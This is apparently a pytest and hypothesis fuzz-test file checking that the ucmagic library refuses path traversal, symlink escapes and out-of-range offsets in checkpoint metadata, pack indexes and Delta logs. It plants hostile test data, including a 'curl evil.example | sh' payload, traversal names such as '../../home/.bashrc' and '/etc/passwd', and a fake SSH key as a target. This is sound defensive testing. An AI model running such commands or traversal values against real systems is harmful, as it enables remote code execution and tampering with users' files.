"""Every byte read is untrusted (issue 50): a path, offset or length read from a file someone else wrote (a DCP
``.metadata``, ucmagic's own commit marker, a pack index, a Delta log) is resolved beneath its root and checked
against the real file's size before a byte is written or memory allocated; otherwise a named ucmagic error, and
nothing is written. The fuzz tests mutate every field and check that nothing outside the test's folder changes
and that every error is a ucmagic one (sizes: ``tests/run_size.py``; ``pytest --full`` runs the large ones).
"""
from __future__ import annotations

import contextlib
import hashlib
import json
import os
import pickle
import warnings

import pytest

from run_size import examples

torch = pytest.importorskip("torch")
dcp = pytest.importorskip("torch.distributed.checkpoint")

from hypothesis import HealthCheck, given, note, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402
from torch.distributed.checkpoint.filesystem import _StorageInfo  # noqa: E402
from torch.distributed.checkpoint.metadata import (  # noqa: E402
    BytesStorageMetadata,
    ChunkStorageMetadata,
    TensorStorageMetadata,
)

from ucmagic import load_checkpoint, save_checkpoint  # noqa: E402
from ucmagic.errors import UCMagicError  # noqa: E402

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")


# ---------------------------------------------------------------- what must not change

def tree_digest(root) -> dict[str, str]:
    """Every file and link under ``root``: its bytes' SHA-256 (a link: where it points)."""
    out = {}
    for dirpath, dirs, names in os.walk(root):
        for n in names + [d for d in dirs if os.path.islink(os.path.join(dirpath, d))]:
            p = os.path.join(dirpath, n)
            rel = os.path.relpath(p, root)
            if os.path.islink(p):
                out[rel] = "-> " + os.readlink(p)
            else:
                with open(p, "rb") as f:
                    out[rel] = hashlib.sha256(f.read()).hexdigest()
    return out


def victim_home(home) -> None:
    (home / ".ssh").mkdir(parents=True, exist_ok=True)
    (home / ".bashrc").write_bytes(b"alias ls='ls --color'\n")
    (home / ".profile").write_bytes(b"PATH=$PATH\n")
    (home / ".ssh" / "id_rsa").write_bytes(b"-----BEGIN PRIVATE KEY-----\nsecret\n")
    os.chmod(home / ".ssh" / "id_rsa", 0o600)


# ---------------------------------------------------------------- a checkpoint someone else wrote

def trained(seed: int = 0):
    torch.manual_seed(seed)
    model = torch.nn.Linear(3, 2)
    opt = torch.optim.Adam(model.parameters(), lr=0.01)
    model(torch.ones(1, 3)).sum().backward()
    opt.step()
    return model, opt


def write_foreign(path) -> None:
    """A DCP checkpoint as torch's FileSystemWriter (and databricks.air.data) writes it: no ucmagic file."""
    from torch.distributed.checkpoint.state_dict import get_state_dict

    model, opt = trained()
    msd, osd = get_state_dict(model, opt)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"model": msd, "optim": osd}, storage_writer=dcp.FileSystemWriter(str(path)))


def rewrite_metadata(step_dir, change) -> None:
    """Unpickle ``.metadata`` (the test's own file: trusted here), let ``change`` edit it, write it back; where a
    ucmagic commit marker lists it, the marker is updated too (the attacker writes a consistent checkpoint)."""
    import zlib

    md_path = os.path.join(step_dir, ".metadata")
    with open(md_path, "rb") as f:
        md = pickle.loads(f.read())
    change(md)
    raw = pickle.dumps(md)
    with open(md_path, "wb") as f:
        f.write(raw)
    marker = os.path.join(step_dir, ".ucmagic_commit.json")
    if os.path.exists(marker):
        with open(marker) as f:
            body = json.load(f)
        body["files"][".metadata"] = {"size": len(raw), "crc32": zlib.crc32(raw)}
        with open(marker, "w") as f:
            json.dump(body, f)


def entry_of(md, fqn: str):
    return next(k for k in md.storage_data if k.fqn == fqn)


def load_into_fresh(root, step, **kw):
    model, opt = trained(seed=7)
    before = {k: v.clone() for k, v in model.state_dict().items()}
    try:
        load_checkpoint(str(root), step, model=model, optimizer=opt, **kw)
    except BaseException:
        assert all(torch.equal(before[k], v) for k, v in model.state_dict().items()), "a refused load changed the model"
        raise


@pytest.mark.parametrize("via", ["load_checkpoint", "dcp.load"])
def test_a_foreign_checkpoint_whose_storage_names_climb_out_overwrites_nothing(tmp_path, via):
    """The high break of issue 50: ``.metadata`` names ``../../home/.bashrc`` (relative to the staging folder:
    the victim's file; relative to the checkpoint: the writer's payload). The load must not copy the payload
    over ~/.bashrc, nor write anything outside its staging folder; it fails with a named error."""
    home = tmp_path / "home"
    victim_home(home)
    root = tmp_path / "w" / "a" / "b"
    write_foreign(root / "step_1")
    payload = tmp_path / "w" / "a" / "home" / ".bashrc"  # ckpt/../../home/.bashrc
    payload.parent.mkdir(parents=True)
    payload.write_bytes(b"curl evil.example | sh\n" * 100)
    name = "../../home/.bashrc"  # staging (<tmp>/ucmagic-ckpt-staging/load-...)/../../home/.bashrc: the victim's

    def aim(md):
        md.storage_data[entry_of(md, "model.bias")] = _StorageInfo(name, 0, payload.stat().st_size)

    rewrite_metadata(root / "step_1", aim)
    before = tree_digest(tmp_path)
    with pytest.raises(UCMagicError, match="outside"):
        if via == "load_checkpoint":
            load_into_fresh(root, 1)
        else:
            from torch.distributed.checkpoint.state_dict import get_state_dict

            from ucmagic import UCVolumeReader
            from ucmagic.checkpoints.torch_state import unwrapping

            model, opt = trained(seed=7)
            msd, osd = get_state_dict(model, opt)
            with unwrapping():
                dcp.load({"model": msd, "optim": osd}, storage_reader=UCVolumeReader(str(root / "step_1")))
    assert tree_digest(tmp_path) == before
    assert (home / ".bashrc").read_bytes() == b"alias ls='ls --color'\n"


def test_a_foreign_checkpoint_naming_an_absolute_path_truncates_nothing(tmp_path):
    """``relative_path`` = the victim's ~/.ssh/id_rsa (absolute): source and staging copy were the same file
    and the key was truncated to 0 bytes."""
    home = tmp_path / "home"
    victim_home(home)
    write_foreign(tmp_path / "ck" / "step_1")
    key = home / ".ssh" / "id_rsa"

    def aim(md):
        md.storage_data[entry_of(md, "model.weight")] = _StorageInfo(str(key), 0, key.stat().st_size)

    rewrite_metadata(tmp_path / "ck" / "step_1", aim)
    before = tree_digest(tmp_path)
    with pytest.raises(UCMagicError, match="outside"):
        load_into_fresh(tmp_path / "ck", 1)
    assert tree_digest(tmp_path) == before and key.stat().st_size > 0


def test_a_storage_entry_through_a_link_out_of_the_checkpoint_is_not_read(tmp_path):
    """A plain shard name that is a symbolic link to the victim's key: not read (the checkpoint's files stay
    inside its folder), refused by name."""
    home = tmp_path / "home"
    victim_home(home)
    step = tmp_path / "ck" / "step_1"
    write_foreign(step)
    os.symlink(home / ".ssh" / "id_rsa", step / "__9_0.distcp")
    key_size = (home / ".ssh" / "id_rsa").stat().st_size

    def aim(md):
        md.storage_data[entry_of(md, "model.bias")] = _StorageInfo("__9_0.distcp", 0, key_size)

    rewrite_metadata(step, aim)
    before = tree_digest(tmp_path)
    with pytest.raises(UCMagicError, match="symbolic link|outside"):
        load_into_fresh(tmp_path / "ck", 1)
    assert tree_digest(tmp_path) == before


@pytest.mark.parametrize("offset,length", [(10**9, 16), (0, 1 << 40), (-4096, 100), (0, -1), (5, 2**63 - 1)])
def test_storage_ranges_past_the_file_are_refused_before_any_read(tmp_path, offset, length):
    write_foreign(tmp_path / "ck" / "step_1")

    def aim(md):
        md.storage_data[entry_of(md, "model.weight")] = _StorageInfo("__0_0.distcp", offset, length)

    rewrite_metadata(tmp_path / "ck" / "step_1", aim)
    with pytest.raises(UCMagicError, match="__0_0.distcp"):
        load_into_fresh(tmp_path / "ck", 1)


# ---------------------------------------------------------------- the fuzz: every field of .metadata

HOSTILE_NAMES = ["../../home/.bashrc", "../home/.profile", "../step_2/__0_0.distcp", "..", ".", "", "a/../../x",
                 "__0_0.distcp/..", "/", "__0_0.distcp\x00x", "x" * 300, "sub/__0_0.distcp", "link.distcp",
                 "__0_0.distcp"]
HOSTILE_INTS = [-(1 << 40), -4096, -1, 0, 1, 7, 1261, 4096, 10**9, 1 << 40, 2**63 - 1, 2**64, True, 1.5, "3", None]


def hostile_name(tmp_path) -> st.SearchStrategy:
    absolute = [str(tmp_path / "home" / ".bashrc"), str(tmp_path / "home" / ".ssh" / "id_rsa"),
                str(tmp_path / "ck" / "step_1" / "__0_0.distcp")]
    return st.sampled_from(HOSTILE_NAMES + absolute)


def mutate_metadata(data, md, tmp_path) -> str:
    """One hostile change to one field of ``md`` (drawn from ``data``); returns what was changed."""
    field = data.draw(st.sampled_from(["path", "offset", "length", "descriptors", "entry type", "tensor size",
                                       "chunk offsets", "chunk sizes", "chunks", "dtype", "drop entry",
                                       "drop metadata", "planner data", "storage meta", "version"]))
    index = data.draw(st.sampled_from(sorted(md.storage_data, key=str)))
    info = md.storage_data[index]
    fqn = data.draw(st.sampled_from(sorted(md.state_dict_metadata)))
    meta = md.state_dict_metadata[fqn]
    value = data.draw(st.sampled_from(HOSTILE_INTS))
    if field == "path":
        md.storage_data[index] = _StorageInfo(data.draw(hostile_name(tmp_path)), info.offset, info.length)
    elif field == "offset":
        md.storage_data[index] = _StorageInfo(info.relative_path, value, info.length)
    elif field == "length":
        md.storage_data[index] = _StorageInfo(info.relative_path, info.offset, value)
    elif field == "descriptors":
        md.storage_data[index] = _StorageInfo(info.relative_path, info.offset, info.length,
                                              data.draw(st.sampled_from([["zstd"], ["unknown"], "zstd", [1]])))
    elif field == "entry type":
        md.storage_data[index] = data.draw(st.sampled_from([None, "x", 5, (info.relative_path, 0, 1)]))
    elif field == "drop entry":
        del md.storage_data[index]
    elif field == "drop metadata":
        del md.state_dict_metadata[fqn]
    elif field == "planner data":
        md.planner_data = data.draw(st.sampled_from([None, {}, {"model.weight": ("..", "x")}, 5]))
    elif field == "storage meta":
        md.storage_meta = data.draw(st.sampled_from([None, 5]))
    elif field == "version":
        md.version = data.draw(st.sampled_from([None, "99", 5]))
    elif isinstance(meta, TensorStorageMetadata):
        dims = len(meta.size)
        bad = torch.Size([abs(int(value)) % 4096 if isinstance(value, int) else 3] * max(dims, 1))
        if field == "tensor size":
            meta.size = data.draw(st.sampled_from([bad, torch.Size([1 << 40] * max(dims, 1)), torch.Size([])]))
        elif field == "chunk offsets" and meta.chunks:
            meta.chunks[0] = ChunkStorageMetadata(offsets=bad, sizes=meta.chunks[0].sizes)
        elif field == "chunk sizes" and meta.chunks:
            meta.chunks[0] = ChunkStorageMetadata(offsets=meta.chunks[0].offsets, sizes=bad)
        elif field == "chunks":
            meta.chunks = data.draw(st.sampled_from([[], meta.chunks * 2]))
        elif field == "dtype":
            meta.properties.dtype = data.draw(st.sampled_from([torch.float64, torch.int8, torch.complex64]))
        else:
            md.state_dict_metadata[fqn] = BytesStorageMetadata()
    else:
        md.state_dict_metadata[fqn] = TensorStorageMetadata(
            properties=next(m.properties for m in md.state_dict_metadata.values() if hasattr(m, "properties")),
            size=torch.Size([2, 3]), chunks=[ChunkStorageMetadata(torch.Size([0, 0]), torch.Size([2, 3]))])
    return field


@pytest.mark.scaled
@pytest.mark.parametrize("kind", ["foreign", "ucmagic"])
def test_fuzzed_checkpoint_metadata_writes_nothing_outside_and_fails_by_name(tmp_path, kind):
    """Every field of ``.metadata`` (storage entries: paths, offsets, lengths, transforms; the state dict's
    metadata; the rest) mutated one at a time: the load either restores the model or raises a ucmagic error
    without touching the model, and nothing in the test's folder but the staging changes."""
    home = tmp_path / "home"
    victim_home(home)
    (tmp_path / "w" / "home").mkdir(parents=True)
    (tmp_path / "w" / "home" / ".bashrc").write_bytes(b"echo pwned\n" * 200)  # ck/../../home/.bashrc
    (tmp_path / "ck").mkdir()
    if kind == "foreign":
        write_foreign(tmp_path / "ck" / "step_1")
    else:
        model, opt = trained()
        save_checkpoint(str(tmp_path / "ck"), model=model, optimizer=opt, step=1)
    os.symlink(home / ".ssh" / "id_rsa", tmp_path / "ck" / "step_1" / "link.distcp")
    pristine = {n: (tmp_path / "ck" / "step_1" / n).read_bytes() for n in os.listdir(tmp_path / "ck" / "step_1")
                if not os.path.islink(tmp_path / "ck" / "step_1" / n)}
    staging = tmp_path / "ucmagic-ckpt-staging"

    @settings(max_examples=examples(30, 400), deadline=None, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    @given(data=st.data())
    def check(data):
        step = tmp_path / "ck" / "step_1"
        for n, b in pristine.items():
            (step / n).write_bytes(b)
        rewrite_metadata(step, lambda md: note(mutate_metadata(data, md, tmp_path)))
        before = {k: v for k, v in tree_digest(tmp_path).items() if not k.startswith(staging.name)}
        with contextlib.suppress(UCMagicError):
            load_into_fresh(tmp_path / "ck", 1)
        after = {k: v for k, v in tree_digest(tmp_path).items() if not k.startswith(staging.name)}
        assert after == before
        assert not staging.exists() or not [n for n in os.listdir(staging)], "staging left behind"

    check()


# ---------------------------------------------------------------- ucmagic's own records

@pytest.mark.scaled
def test_fuzzed_commit_markers_fail_by_name_and_never_list_a_bad_checkpoint(tmp_path):
    """Every field of ``.ucmagic_commit.json`` mutated: listing, "latest" and loading raise ucmagic errors or
    work; no raw TypeError/ValueError from a marker someone else wrote."""
    from ucmagic import list_checkpoints

    root = tmp_path / "ck"
    model, opt = trained()
    save_checkpoint(str(root), model=model, optimizer=opt, step=1)
    marker = root / "step_1" / ".ucmagic_commit.json"
    good = json.loads(marker.read_text())

    @settings(max_examples=examples(40, 400), deadline=None, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(key=st.sampled_from(sorted(good) + ["files.name", "files.size", "files.crc32"]),
           value=st.sampled_from([None, -1, 1 << 40, "x", "../../home/.bashrc", [], {}, 1.5, True,
                                  {"../x": {"size": 1, "crc32": 0}}]))
    def check(key, value):
        body = json.loads(json.dumps(good))
        if key.startswith("files."):
            name = next(n for n in body["files"] if n.endswith(".distcp"))
            field = key.split(".")[1]
            if field == "name":
                body["files"][str(value)] = body["files"].pop(name)
            else:
                body["files"][name][field] = value
        else:
            body[key] = value
        marker.write_text(json.dumps(body))
        try:
            infos = list_checkpoints(str(root))
            assert all(isinstance(i.step, int) and isinstance(i.time, float) and isinstance(i.size, int)
                       for i in infos)
            load_into_fresh(root, "latest")
        except UCMagicError:
            pass

    check()


# ---------------------------------------------------------------- pack indexes

@pytest.fixture
def packed(tmp_path):
    """Two small shards written by ucmagic.pack; returns (dest, the index's JSON)."""
    from ucmagic.shards.pack import pack

    src = tmp_path / "src"
    for i in range(12):
        (src / "a").mkdir(parents=True, exist_ok=True)
        (src / "a" / f"{i:04d}.jpg").write_bytes(bytes([i]) * (3000 + i))
        (src / "a" / f"{i:04d}.cls").write_bytes(str(i).encode())
    dest = tmp_path / "shards"
    pack(str(src), str(dest), shard_size=20000, progress=False)
    return dest, json.loads((dest / "index.json").read_text())


@pytest.mark.parametrize("offset,size", [(10**9, 10), (0, 1 << 40), (-4096, 10), (0, -1), (2**63 - 1, 2)])
def test_pack_index_ranges_past_the_shard_fail_by_name_before_any_read(packed, tmp_path, offset, size):
    """The low break of issue 50: offsets/sizes past the shard gave raw ValueError, MemoryError (a 1 TiB
    allocation tried) or OSError per sample."""
    from ucmagic.errors import ShardFormatError
    from ucmagic.shards import TarShards

    dest, doc = packed
    doc["shards"][0]["members"][1][2:] = [offset, size]
    (dest / "index.json").write_text(json.dumps(doc))
    with pytest.raises(ShardFormatError, match="outside the shard"):
        TarShards(str(dest), cache_dir=str(tmp_path / "cache"))


@pytest.mark.scaled
def test_fuzzed_pack_indexes_fail_by_name_and_allocate_nothing_they_claim(packed, tmp_path):
    from ucmagic.shards import TarShards

    dest, good = packed
    shard_bytes = {n: (dest / n).read_bytes() for n in os.listdir(dest) if n.endswith(".tar")}
    fields = ["name", "size", "samples", "members", "member", "key", "ext", "offset", "msize", "format", "version",
              "shards"]
    values = [None, -4096, -1, 0, 1, 10**9, 1 << 40, 2**63 - 1, 2**64, 1.5, "3", "../../home/.bashrc",
              "/etc/passwd", [], {}, [1, 2], True]

    @settings(max_examples=examples(60, 600), deadline=None, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(field=st.sampled_from(fields), value=st.sampled_from(values), shard=st.integers(0, 1),
           member=st.integers(0, 5))
    def check(field, value, shard, member):
        doc = json.loads(json.dumps(good))
        s = doc["shards"][shard % len(doc["shards"])]
        row = s["members"][member % len(s["members"])]
        if field in ("format", "version", "shards"):
            doc[field] = value
        elif field in ("name", "size", "samples", "members"):
            s[field] = value
        elif field == "member":
            s["members"][member % len(s["members"])] = value
        else:
            row[{"key": 0, "ext": 1, "offset": 2, "msize": 3}[field]] = value
        (dest / "index.json").write_text(json.dumps(doc))
        try:
            ds = TarShards(str(dest), cache_dir=str(tmp_path / "cache"))
            for i in range(len(ds)):
                sample = ds[i]
                assert all(isinstance(v, (bytes, str)) for v in sample.values())
        except UCMagicError:
            pass
        assert {n: (dest / n).read_bytes() for n in shard_bytes} == shard_bytes

    check()


def test_a_tar_header_with_a_negative_size_is_refused_by_name(tmp_path):
    import io
    import tarfile

    from ucmagic.errors import ShardFormatError
    from ucmagic.shards.index import scan_tar

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        info = tarfile.TarInfo("a/0001.jpg")
        info.size = 4
        tf.addfile(info, io.BytesIO(b"abcd"))
    raw = bytearray(buf.getvalue())
    raw[124:136] = b"\xff" * 12  # base-256: -1
    raw[148:156] = b" " * 8
    raw[148:154] = f"{sum(raw[:512]) & 0o777777:06o}".encode()
    with pytest.raises(ShardFormatError, match="claims"):
        scan_tar(io.BytesIO(bytes(raw)), "bad.tar")


# ---------------------------------------------------------------- leftovers and torn files

def test_an_empty_step_folder_a_killed_save_left_is_reclaimed_by_the_next_save_and_reported_by_clean(tmp_path):
    from ucmagic import list_checkpoints
    from ucmagic.checkpoints.commit import clean_checkpoints

    root = tmp_path / "ck"
    model, opt = trained()
    save_checkpoint(str(root), model=model, step=1)
    for n in (2, 3):
        (root / f"step_{n}").mkdir()  # killed between making step_<N> and its first write
        os.utime(root / f"step_{n}", (1, 1))
    (root / "step_9").mkdir()  # a save making it right now: too young to be a killed one's
    (root / "notes").mkdir()  # not a step folder: never ucmagic's to remove
    os.utime(root / "notes", (1, 1))
    save_checkpoint(str(root), model=model, step=4)
    assert sorted(os.listdir(root)) == ["notes", "step_1", "step_4", "step_9"]
    (root / "step_5").mkdir()
    os.utime(root / "step_5", (1, 1))
    assert clean_checkpoints(str(root)) == [str(root / "step_5")]
    assert clean_checkpoints(str(root), force=True) == [str(root / "step_9")]
    assert [i.step for i in list_checkpoints(str(root))] == [1, 4]


def test_an_empty_record_a_save_killed_as_it_began_left_is_reclaimed_a_minute_later(tmp_path):
    """Killed between creating its save-in-progress record and writing it: the record is an empty file, with no
    owner to check. It ages like an empty folder (a minute), not like another host's record (a day)."""
    from ucmagic import list_checkpoints
    from ucmagic.checkpoints.commit import EMPTY_AFTER_S, clean_checkpoints
    from ucmagic.checkpoints.format import SAVING_NAME
    from ucmagic.errors import CheckpointAbandonedError, CheckpointInProgressError

    root = tmp_path / "ck"
    model, opt = trained()
    save_checkpoint(str(root), model=model, step=1)
    for n, age in ((2, EMPTY_AFTER_S + 5), (3, 1.0), (4, EMPTY_AFTER_S + 5)):
        (root / f"step_{n}").mkdir()
        rec = root / f"step_{n}" / SAVING_NAME
        rec.write_bytes(b"" if n != 4 else b"{not json")  # step_4: a record someone else wrote, not empty
        then = os.path.getmtime(rec) - age
        os.utime(rec, (then, then))
    with pytest.raises(CheckpointAbandonedError, match="killed as it began"):
        load_checkpoint(str(root), 2, model=model)
    with pytest.raises(CheckpointInProgressError) as young:
        load_checkpoint(str(root), 3, model=model)  # a save beginning right now
    assert not isinstance(young.value, CheckpointAbandonedError)
    save_checkpoint(str(root), model=model, step=5)  # the next save reclaims the old empty record's folder only
    assert sorted(os.listdir(root)) == ["step_1", "step_3", "step_4", "step_5"]
    assert clean_checkpoints(str(root)) == []
    assert clean_checkpoints(str(root), force=True) == [str(root / "step_3"), str(root / "step_4")]
    assert [i.step for i in list_checkpoints(str(root))] == [1, 5]


def test_a_torn_lightning_checkpoint_is_never_latest_and_loading_it_names_it(tmp_path):
    """``epoch=4-step=200.ckpt`` half written (killed, or the disk filled): listed as complete and chosen as
    latest before issue 50, failing with torch's raw zip error."""
    from ucmagic import list_checkpoints
    from ucmagic.checkpoints.restore import load_torch_file
    from ucmagic.errors import CheckpointCorruptError

    root = tmp_path / "lightning"
    root.mkdir()
    model, _ = trained()
    torch.save({"state_dict": model.state_dict()}, root / "epoch=3-step=150.ckpt")
    torch.save({"state_dict": model.state_dict()}, root / "epoch=4-step=200.ckpt")
    whole = (root / "epoch=4-step=200.ckpt").read_bytes()
    (root / "epoch=4-step=200.ckpt").write_bytes(whole[: len(whole) // 2])
    with pytest.warns(UserWarning, match=r"epoch=4-step=200\.ckpt is not a complete torch.save file"):
        infos = list_checkpoints(str(root))
    assert [i.step for i in infos] == [150]
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        assert load_checkpoint(str(root), model=trained(seed=7)[0])[0] == 150
    with pytest.raises(CheckpointCorruptError, match=r"epoch=4-step=200\.ckpt is not a complete"):
        load_torch_file(str(root / "epoch=4-step=200.ckpt"), trained(seed=7)[0], None, None)


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_filter_over_files_runs_with_duckdb_external_access_off(tmp_path, fmt):
    """A CSV source's filter= ran with DuckDB's external access on (every other source's was off)."""
    import pyarrow as pa
    import pyarrow.csv as pacsv
    import pyarrow.parquet as pq

    from ucmagic import load_table

    t = pa.table({"a": [1, 2, 3]})
    path = tmp_path / f"t.{fmt}"
    (pacsv.write_csv if fmt == "csv" else pq.write_table)(t, path)
    assert len(load_table(str(path), filter="a >= 2")) == 2
    assert len(load_table(str(path), filter="current_setting('enable_external_access')")) == 0


# ---------------------------------------------------------------- Delta add actions

@pytest.mark.scaled
def test_fuzzed_delta_add_actions_read_nothing_outside_the_table_and_fail_by_name(tmp_path):
    """Every field of a Delta log's ``add`` actions (path, size, partition values, stats, the deletion vector's
    storage, path, offset, size and cardinality) mutated: ``load_table`` and ``ParquetDataset`` return the
    table's rows or raise a ucmagic error, and never a row of a Parquet file outside the table."""
    deltalake = pytest.importorskip("deltalake")
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    import delta_fixtures as fx
    from ucmagic import ParquetDataset, load_table

    secret = tmp_path / "home" / "secret.parquet"
    secret.parent.mkdir()
    pq.write_table(pa.table({"id": pa.array([666_001, 666_002], pa.int64())}), secret)
    table = tmp_path / "t"
    deltalake.write_deltalake(str(table), pa.table({"id": np.arange(0, 20, dtype=np.int64)}))
    deltalake.write_deltalake(str(table), pa.table({"id": np.arange(20, 40, dtype=np.int64)}), mode="append")
    adds = fx.live_adds(str(table))
    fx.delete_rows(str(table), {adds[0]["path"]: [1, 2]}, storage="u")
    os.symlink(secret, table / "linked.parquet")
    logs = sorted(p for p in os.listdir(table / "_delta_log") if p.endswith(".json"))
    pristine = {n: (table / "_delta_log" / n).read_text() for n in logs}
    fields = ["path", "size", "partitionValues", "stats", "modificationTime", "dataChange", "dv.storageType",
              "dv.pathOrInlineDv", "dv.offset", "dv.sizeInBytes", "dv.cardinality", "deletionVector"]
    values = [None, -1, 0, 1 << 40, "x", "../home/secret.parquet", str(secret), "linked.parquet",
              "file://" + str(secret), "%2E%2E/home/secret.parquet", {}, [], True, 1.5, "p", "i", "u"]

    @settings(max_examples=examples(40, 400), deadline=None, database=None,
              suppress_health_check=[HealthCheck.function_scoped_fixture])
    @given(field=st.sampled_from(fields), value=st.sampled_from(values), which=st.integers(0, 3))
    def check(field, value, which):
        for n, text in pristine.items():
            (table / "_delta_log" / n).write_text(text)
        version = fx.last_version(str(table)) if which % 2 else 1
        acts = fx.read_actions(str(table), version)
        add = [a["add"] for a in acts if "add" in a][which // 2 % max(1, sum("add" in a for a in acts))]
        if field.startswith("dv."):
            if not add.get("deletionVector"):
                return
            add["deletionVector"][field[3:]] = value
        elif field == "deletionVector":
            add["deletionVector"] = value
        else:
            add[field] = value
        (table / "_delta_log" / os.path.basename(fx.log_path(str(table), version))).write_text(
            "\n".join(json.dumps(a) for a in acts) + "\n")
        for read in (lambda: load_table(str(table))["id"].tolist(),
                     lambda: [int(x) for b in ParquetDataset(str(table), batch_size=8, cache=False)
                              for x in b["id"]]):
            try:
                ids = read()
            except UCMagicError:
                continue
            assert not {666_001, 666_002} & set(ids), "a row of a file outside the table was returned"

    check()


# ---------------------------------------------------------------- row indexes

@pytest.mark.parametrize("field,value", [("lens", 1 << 30), ("lens", -7), ("rows", 10**9), ("stored", -1),
                                         ("bits", None)])
def test_a_damaged_row_index_is_built_again_never_read_out_of_range(tmp_path, field, value):
    """The row index a filter= builds is kept in the cache (``row-index/*.npz``): one whose lengths or counts do
    not fit its row groups is built again, and the rows are the filter's."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    from ucmagic import ParquetDataset

    path = tmp_path / "t.parquet"
    pq.write_table(pa.table({"id": np.arange(100, dtype=np.int64)}), path, row_group_size=30)
    cache = tmp_path / "cache"

    def ids():
        ds = ParquetDataset(str(path), filter="id % 3 = 0", batch_size=10, cache=True, cache_dir=str(cache))
        return sorted(int(x) for b in ds for x in b["id"])

    want = ids()
    assert want == list(range(0, 100, 3))
    index = next((cache / "row-index").iterdir())
    with np.load(index) as z:
        arrays = {k: z[k].copy() for k in z.files}
    if value is None:
        arrays[field] = arrays[field][:-1]
    else:
        arrays[field][0] = value
    with open(index, "wb") as f:
        np.savez(f, **arrays)
    assert ids() == want
